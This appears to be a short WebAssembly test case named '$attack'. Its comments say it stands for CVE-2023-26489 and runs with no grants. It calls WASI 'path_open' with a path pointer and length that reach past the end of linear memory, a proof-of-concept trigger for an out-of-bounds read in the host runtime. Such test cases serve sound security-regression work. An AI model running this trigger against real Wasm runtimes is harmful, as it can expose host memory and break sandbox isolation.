;; Has the host read a path from behind its memory.
;; stands for: CVE-2023-26489
;; grant: none
(func $attack (result i32)
  (call $path_open (i32.const 3) (i32.const 0) (i32.const 65530) (i32.const 4096) (i32.const 0) (i64.const 2) (i64.const 0) (i32.const 0) (i32.const 8)))
